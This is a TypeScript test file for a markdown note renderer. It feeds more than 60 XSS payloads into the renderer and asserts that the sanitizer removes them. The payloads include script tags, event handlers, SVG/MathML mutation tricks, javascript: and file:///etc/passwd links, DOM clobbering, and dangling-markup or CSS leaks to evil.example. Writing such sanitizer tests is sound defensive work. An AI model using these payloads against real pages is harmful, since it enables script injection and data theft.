import assert from 'node:assert/strict';
import { renderConcept } from '../../../src/core/page/renderConcept.js';
import { readMarkup } from './markupReader.js';
import { context, noteTree } from './page.js';
import { unsafeParts } from './pageSafety.js';

/** Notes that want more than to be read. */
const payloads: readonly string[] = [
  // Scripts and what loads them
  ...[
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<script/x>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
  ],
  ...[
    'x <script>alert(1)</script> y',
    '<script\n>alert(1)</script\n>',
    '<<script>alert(1)//<</script>',
    '<base href="https://evil.example/">',
  ],
  ...[
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="data:text/html,x">',
    '<embed src="x">',
  ],
  ...[
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel=stylesheet href=//evil.example>',
    '<frameset onload=alert(1)>',
  ],
  // Handlers
  ...[
    '<img src=x onerror=alert(1)>',
    'a <img src=x onerror=alert(1)> b',
    '<b onmouseover="alert(1)">x</b>',
    '<body onload=alert(1)>',
    '<details open ontoggle=alert(1)>',
  ],
  ...[
    '<input autofocus onfocus=alert(1)>',
    '<video><source onerror=alert(1)></video>',
    '<marquee onstart=alert(1)>',
    '<a href="#" onclick=alert(1)>x</a>',
  ],
  // SVG, MathML, mutation
  ...[
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  ],
  ...[
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<template><script>alert(1)</script></template>',
  ],
  ...[
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?php echo 1 ?>',
  ],
  // Links in every disguise
  ...[
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x]( javascript:alert(1))',
    '[x](<java\tscript:alert(1)>)',
    '[x](java&#x0A;script:alert(1))',
    '[x](&#1;javascript:alert(1))',
  ],
  ...[
    '[x](&#106;avascript:alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x](java&Tab;script:alert(1))',
    '[x](javascript&#58;alert(1))',
    '[x](java&#xAD;script:alert(1))',
  ],
  ...[
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](command:workbench.action.terminal.new)',
    '[x](vscode://evil.ext/run)',
    '[x](file:///etc/passwd)',
  ],
  ...[
    '<javascript:alert(1)>',
    '<command:evil>',
    '[x]: javascript:alert(1)\n\n[x]',
    '[x][y]\n\n[y]: data:text/html,x',
    '[x](//evil.example)',
    '[x](\\\\\\\\evil.example\\\\share)',
  ],
  ...[
    '[x](javascript%3Aalert(1))',
    '[[javascript:alert(1)]]',
    '[[x|<img src=x onerror=alert(1)>]]',
    '[[command:evil|x]]',
    '[x](blob:https://a/b)',
    '[x](about:blank)',
  ],
  ...[
    '[x](https://evil.example/"onmouseover="alert(1))',
    "[x](https://evil.example/'><script>)",
    '[x](<https://evil.example/ "onclick=alert(1)>)',
    '[x](./a.md "\\"><script>alert(1)</script>")',
  ],
  // Images
  ...[
    '![x](javascript:alert(1))',
    '![x](data:text/html,x)',
    '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
    '![" onerror="alert(1)](./a.png)',
    '![x](./a.png"onerror="alert(1))',
  ],
  ...[
    '![x](https://evil.example/pixel.png)',
    '![x](//evil.example/x.png)',
    '![x](file:///etc/passwd)',
    "![x](./a.png '\"><script>alert(1)</script>')",
  ],
  // Clobbering
  ...[
    '<img id=page name=status>',
    '<a id=banner name=page>x</a>',
    '<form id=getElementById name=body><input name=action></form>',
    'x[^page]\n\n[^page]: f',
    'x[^__proto__]\n\n[^__proto__]: f',
  ],
  ...[
    'x[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: f',
    '> # page\n> # banner',
    'x[^constructor]\n\n[^constructor]: <b>f</b>',
  ],
  // Dangling markup and style
  ...[
    '<img src="https://evil.example/?',
    "<a href='https://evil.example/?",
    '<textarea>',
    '<title>',
    '<plaintext>',
    '<!--',
    '<!-- x --!> <img src=x onerror=alert(1)> -->',
    '<!--><img src=x onerror=alert(1)>-->',
    '</article></main>',
  ],
  ...[
    '<style>*{background:url(https://evil.example)}</style>',
    '<p style="background:url(//evil.example)">x</p>',
    '<b style="position:fixed">x</b>',
    '<div class="source" data-action="source">x</div>',
  ],
  // Code and its language
  ...[
    '```"><script>alert(1)</script>\nx\n```',
    '```js" onmouseover="alert(1)\n</code></pre><script>alert(1)</script>\n```',
    '`</code><script>alert(1)</script>`',
    '    </pre><script>alert(1)</script>',
  ],
  // Tables, tasks, direction
  ...[
    '|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|',
    '- [x] <img src=x onerror=alert(1)>\n- [ ] "><script>',
    '\u202Etxt.exe\u202C [x](https://a.example/\u202E)',
    '\u0000<script>\uFFFD',
    '<b><i></b></i><kbd>',
  ],
];

/** Every place of a note that reaches a page. */
function notesWith(payload: string): string[] {
  const line = payload.replace(/\n/gu, ' ');
  const yaml = JSON.stringify(line);
  return [
    `# A\n\n${payload}\n`,
    `# A\n\ntext ${payload}\n\n${payload}\n`,
    `# A\n\n## Pros\n${payload}\n\n## Cons\n- ${payload.replace(/\n/gu, '\n  ')}\n\n## Example\n> ${line}\n`,
    `---\ntitle: ${yaml}\naliases: [${yaml}]\ntags: [${yaml}, t, ${yaml}]\n---\n# ${line}\n\n## Pros (${line})\n- x\n\n## B ${line}\n${line}\n\n### Cons\n- y\n`,
    payload,
  ];
}

describe('a hostile note', () => {
  assert.ok(payloads.length >= 60 && new Set(payloads).size === payloads.length);
  for (const payload of payloads) {
    it(`gets nothing from ${JSON.stringify(payload)}`, () => {
      for (const text of notesWith(payload)) {
        const tree = noteTree(text);
        for (const { id } of tree.note.concepts) {
          const html = renderConcept(tree, id, context) ?? '';
          assert.deepEqual(unsafeParts(html), [], html);
        }
      }
    });
  }

  it('gets nothing from an image that the host resolves badly', () => {
    for (const resolved of [
      'javascript:alert(1)',
      'http://evil.example/x.png',
      'data:text/html,x',
      'file:///etc/passwd',
      '//evil.example',
      'x.png',
    ]) {
      const tree = noteTree('# A', '![x](./a.png)');
      const html = renderConcept(tree, tree.note.concepts[0]!.id, { ...context, resolveImage: () => resolved }) ?? '';
      assert.ok(!readMarkup(html).tags.some(({ attributes }) => attributes.has('src')), html);
    }
  });

  it('gets nothing through words of the interface', () => {
    const evil = '"><script>alert(1)</script>';
    const tree = noteTree('# A', '![](data:image/png,x)', '## Pros', '- x', '## B', '', '[^1]', '', '[^1]: f');
    for (const { id } of tree.note.concepts) {
      assert.deepEqual(
        unsafeParts(renderConcept(tree, id, { ...context, location: evil, translate: () => evil }) ?? ''),
        [],
      );
    }
  });
});

describe('the check of pages itself', () => {
  for (const html of [
    ...[
      '<script></script>',
      '<p onclick="x"></p>',
      '<p style="x"></p>',
      '<a href="javascript:x">x</a>',
      '<a href=" https://x">x</a>',
      '<a href="./x">x</a>',
    ],
    ...[
      '<a data-href="command:x">x</a>',
      '<img src="http://x">',
      '<img src="data:text/html,x">',
      '<p id="page"></p>',
      '<li id="page"></li>',
      '<svg onload="x"></svg>',
    ],
    ...[
      '<p>',
      '</p>',
      '<p></b></p>',
      '< p>',
      '<p title=x></p>',
      "<p title='x'></p>",
      '<!-- x -->',
      '<p\n></p>',
      '<P></P>',
      'a < b',
      '<img src="https://images.example/',
      '<iframe></iframe>',
    ],
    ...[
      '<h2 id="x"></h2>',
      '<div class="a" id="b"></div>',
      '<form></form>',
      '<base href="#">',
      '<svg><script></script></svg>',
      '<button data-action="link"></button>',
      '<a name="x">x</a>',
    ],
  ]) {
    it(`finds ${html}`, () => {
      assert.notDeepEqual(unsafeParts(html), []);
    });
  }

  it('finds nothing in what is fine', () => {
    assert.deepEqual(
      unsafeParts('<p>a &#x3C; <b>b</b><br> <img src="https://images.example/a" alt="&#x3C;script>"></p>'),
      [],
    );
  });
});
